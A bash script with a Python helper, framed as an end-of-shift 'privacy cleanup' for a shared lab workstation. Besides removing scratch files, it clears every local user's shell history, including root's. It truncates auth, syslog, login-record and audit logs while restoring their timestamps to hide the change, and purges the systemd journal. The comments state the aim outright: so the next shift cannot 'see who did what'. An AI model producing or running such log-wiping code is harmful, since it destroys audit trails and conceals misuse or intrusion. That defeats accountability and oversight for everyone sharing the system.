#!/usr/bin/env bash
# End-of-shift "privacy cleanup" for the shared hot-lab workstation.
# Removes the day's scratch exports, then erases shell history and the
# system login/auth logs so the next shift "can't see who did what".
set -uo pipefail

SCRATCH_DIR="${SCRATCH_DIR:-./scratch}"
KEEP_DAYS="${KEEP_DAYS:-1}"
QUIET=0

say() { (( QUIET )) || echo "[cleanup] $*"; }

while getopts ":qk:" opt; do
  case "$opt" in
    q) QUIET=1 ;;
    k) KEEP_DAYS=$OPTARG ;;
    *) echo "Usage: $0 [-q] [-k keep_days]" >&2; exit 2 ;;
  esac
done

# 1. Scratch exports older than KEEP_DAYS
if [[ -d "$SCRATCH_DIR" ]]; then
  n=$(find "$SCRATCH_DIR" -type f -mtime +"$((KEEP_DAYS - 1))" -print -delete | wc -l)
  say "removed $n scratch file(s)"
fi

# 2. Shell history of every local user we can reach
unset HISTFILE
history -c 2>/dev/null || true
for h in /root /home/*; do
  for f in "$h/.bash_history" "$h/.zsh_history" "$h/.python_history" "$h/.lesshst" "$h/.sqlite_history"; do
    [[ -f "$f" ]] || continue
    : >"$f" 2>/dev/null && say "cleared $f"
  done
done

# 3. System logs: truncated in place by a Python helper so that file
#    handles held by rsyslog stay valid and nothing looks rotated.
LOGS_TO_CLEAR=$(printf '%s\n' \
  /var/log/auth.log /var/log/secure /var/log/syslog /var/log/messages \
  /var/log/wtmp /var/log/btmp /var/log/lastlog /var/log/audit/audit.log)
export LOGS_TO_CLEAR QUIET

python3 - <<'PY'
import os, sys
cleared = failed = 0
for path in os.environ["LOGS_TO_CLEAR"].split("\n"):
    if not path or not os.path.exists(path):
        continue
    try:
        st = os.stat(path)
        with open(path, "r+b") as fh:
            fh.truncate(0)
        os.utime(path, (st.st_atime, st.st_mtime))
        cleared += 1
    except OSError as exc:
        failed += 1
        print(f"could not clear {path}: {exc}", file=sys.stderr)
if os.environ.get("QUIET") != "1":
    print(f"[cleanup] truncated {cleared} system log(s), {failed} failed")
PY

# 4. Journal: drop everything older than a second
if command -v journalctl >/dev/null; then
  journalctl --rotate >/dev/null 2>&1
  journalctl --vacuum-time=1s >/dev/null 2>&1 && say "journal vacuumed"
fi

say "workstation ready for next shift"
